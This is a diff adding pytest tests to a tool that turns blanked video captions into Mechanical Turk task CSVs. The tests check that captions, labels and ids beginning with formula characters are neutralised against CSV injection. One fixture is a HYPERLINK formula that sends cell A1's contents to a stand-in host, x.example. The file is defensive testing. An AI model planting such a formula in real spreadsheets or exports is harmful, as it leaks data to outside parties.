@@ -185,3 +185,80 @@ def test_help_imports_no_heavy_library(command):
     )
     result = subprocess.run([sys.executable, "-c", code], check=True, capture_output=True, text=True)
     assert result.stdout.strip() == "[]"
+
+
+# Cells a spreadsheet would run as formulas (OWASP's "CSV Injection"), as captions, labels and ids can start.
+FORMULA_RECORDS = [
+    ("=1+2 a cake is shown.", "a cake", "abcdefghij1"),
+    ('A sign says =HYPERLINK("http://x.example/?d="&A1,"Open video").', '=HYPERLINK("http://x.example/?d="&A1,"Open video")', "abcdefghij2"),
+    ("+1 and a dog runs.", "a dog", "-bcdefghij3"),
+    ("-2 is on the board.", "the board", "abcdefghij4"),
+    ("@home a man sings.", "a man", "abcdefghij5"),
+    ("\t=1+1 is on the wall.", "the wall", "abcdefghij6"),
+    ("\r=1+1 is on the door.", "the door", "abcdefghij7"),
+    ("${price} is shown on a screen.", "a screen", "abcdefghij8"),
+]
+
+
+@pytest.fixture
+def formula_blanked(tmp_path):
+    records = [
+        {
+            "video_id": video_id,
+            "video_start_time": 10,
+            "video_end_time": 20,
+            "caption": caption,
+            "masked_caption": caption.replace(label, "_____", 1),
+            "label": label,
+        }
+        for caption, label, video_id in FORMULA_RECORDS
+    ]
+    path = tmp_path / "val.json"
+    path.write_text(json.dumps(records))
+    return path, records
+
+
+def test_no_cell_of_the_task_csv_is_a_spreadsheet_formula_and_each_reads_back_as_written(tmp_path, formula_blanked):
+    path, records = formula_blanked
+    output = tmp_path / "hits.csv"
+    assert main(["hit-inputs", str(path), "--output_file", str(output)]) == 0
+    columns, rows = read_csv(output)
+    cells = [row[column] for row in rows for column in columns]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    clips = [
+        {field: html.unescape(row[column]) for field, column in input_columns(clip).items()}
+        for row in rows
+        for clip in range(1, CLIPS_PER_TASK + 1)
+        if row[f"video{clip}_id"]
+    ]
+    assert clips == [
+        {
+            "video_id": record["video_id"],
+            "video_start_time": str(record["video_start_time"]),
+            "video_end_time": str(record["video_end_time"]),
+            "masked_caption": record["masked_caption"],
+            "label": record["label"],
+        }
+        for record in records
+    ]
+
+
+def test_answers_reads_the_ids_of_a_task_csv_back_as_the_blanked_file_has_them(tmp_path, formula_blanked):
+    """Mechanical Turk returns each task input as it was in the CSV: `answers` matches them to the blanked clips."""
+    path, records = formula_blanked
+    hits = tmp_path / "hits.csv"
+    assert main(["hit-inputs", str(path), "--output_file", str(hits)]) == 0
+    columns, rows = read_csv(hits)
+    results = tmp_path / "results.csv"
+    with results.open("w", newline="", encoding="utf-8") as file:
+        writer = csv.writer(file)
+        writer.writerow(["WorkerId", *(f"Input.{column}" for column in columns), "Answer.taskAnswers"])
+        for row in rows:
+            answers = {f"answer-{clip}-1": "a thing" for clip in range(1, CLIPS_PER_TASK + 1) if row[f"video{clip}_id"]}
+            writer.writerow(["WORKER1", *(row[column] for column in columns), json.dumps([answers])])
+    output_dir = tmp_path / "release"
+    assert main(["answers", "--blanked_files", str(path), "--answers_files", str(results), "--output_dir",
+                 str(output_dir), "--keep_non_noun_phrases"]) == 0
+    merged = json.loads((output_dir / "val.json").read_text())
+    assert [record["video_id"] for record in merged] == [record["video_id"] for record in records]
+    assert all(record["additional_answers"] == [["a thing"]] for record in merged)
